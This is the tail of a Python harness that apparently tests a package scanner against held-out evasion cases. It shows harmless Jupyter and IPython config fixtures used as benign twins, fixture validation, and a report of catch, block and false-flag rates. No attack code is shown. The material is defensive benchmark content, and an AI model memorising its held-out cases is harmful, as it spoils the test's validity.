                                     '"display_name": "Demo", "language": "python", '
                                     '"env": {"PYDEVD_DISABLE_FILE_VALIDATION": "1"}}\n',
         f"{KERNEL_DIR}/launch.py": """
             import os

             from ipykernel import kernelapp

             os.environ.setdefault('MPLBACKEND', 'module://matplotlib_inline.backend_inline')
             kernelapp.launch_new_instance()
             """})
twin("server-config-py", W, SX, "a Python jupyter_server_config.py that only switches on the extension", extra={
    f"{DATA}/etc/jupyter/jupyter_server_config.py": """
        c = get_config()  # noqa: F821
        c.ServerApp.jpserver_extensions = {'demo': True}
        """})
twin("ipython-config-banner", W, IP, "an etc/ipython config sets a banner from platform.python_version()", extra={
    f"{DATA}/etc/ipython/ipython_config.py": """
        import platform

        c = get_config()  # noqa: F821
        c.InteractiveShell.banner2 = 'demo on Python ' + platform.python_version()
        """})


# --- checks on the fixtures themselves -------------------------------------------------------------------------


def check_fixtures(cases: list[Case]) -> None:
    """Unique ids (also apart from the catalogue), a one-line technique, and Python that parses."""
    ids = [c.id for c in cases]
    dupes = {i for i in ids if ids.count(i) > 1} | (set(ids) & {c.id for c in CATALOGUE})
    if dupes:
        raise SystemExit(f"duplicate case ids: {sorted(dupes)}")
    for case in cases:
        if "\n" in case.technique or not case.technique:
            raise SystemExit(f"{case.id}: the technique must be one line")
        for path, text in case.files.items():
            try:
                if path.endswith(".py"):
                    ast.parse(text.encode(), filename=path)  # bytes: a coding cookie is honoured as Python does
                elif path.endswith(".pth"):
                    for line in text.splitlines():
                        if line.startswith(("import ", "import\t")):
                            ast.parse(line, filename=path)
            except SyntaxError as exc:
                raise SystemExit(f"{case.id}: {path} does not parse: {exc}") from None


# --- scanning and the table ------------------------------------------------------------------------------------


def _share(part: int, whole: int) -> str:
    return f"{part:>3}/{whole:<3} {100 * part / whole:5.1f}%" if whole else f"{'-':>14}"


def main() -> int:
    check_fixtures(CASES)
    results = []
    with tempfile.TemporaryDirectory(prefix="heldout-") as tmp:
        for case in CASES:
            archive = build(case, Path(tmp) / case.id)
            scan = scan_archive(archive)
            results.append((judge(case, scan.findings, scan.errors), scan))

    groups = [p.label for p in Placement if any(o.case.placement is p for o, _ in results)]
    print(f"held-out evasions: {sum(not c.benign for c in CASES)} positives, {sum(c.benign for c in CASES)} benign "
          "twins\n")
    print(f"  {'placement':<20}{'caught (warn+)':<16}{'blocked':<16}{'met (its weight)':<18}{'twins flagged':<16}")
    for group in [*groups, "overall"]:
        outcomes = [o for o, _ in results if group == "overall" or o.case.placement.label == group]
        positives = [o for o in outcomes if not o.case.benign]
        twins = [o for o in outcomes if o.case.benign]
        print(f"  {group:<20}{_share(sum(o.caught for o in positives), len(positives)):<16}"
              f"{_share(sum(o.verdict is Verdict.BLOCK for o in positives), len(positives)):<16}"
              f"{_share(sum(o.met for o in positives), len(positives)):<18}"
              f"{_share(sum(not o.met for o in twins), len(twins)):<16}")

    def findings_text(scan) -> str:
        shown = [f"{f.rule_id}/{f.severity.label}/{f.runs or '-'}" for f in scan.findings]
        errors = [f"error: {e.reason}" for e in scan.errors]
        return ", ".join(shown + errors) or "nothing"

    missed = [(o, s) for o, s in results if not o.case.benign and not o.met]
    flagged = [(o, s) for o, s in results if o.case.benign and not o.met]
    print(f"\nnot met at their weight ({len(missed)}):")
    for outcome, scan in missed:
        print(f"  {outcome.case.id} [{outcome.case.placement.label}] got {outcome.verdict.label}, wanted "
              f"{outcome.case.expect.value}: {outcome.case.technique}\n      findings: {findings_text(scan)}")
    print(f"\nbenign twins flagged ({len(flagged)}):")
    for outcome, scan in flagged:
        print(f"  {outcome.case.id} [{outcome.case.placement.label}] got {outcome.verdict.label}: "
              f"{outcome.case.technique}\n      findings: {findings_text(scan)}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
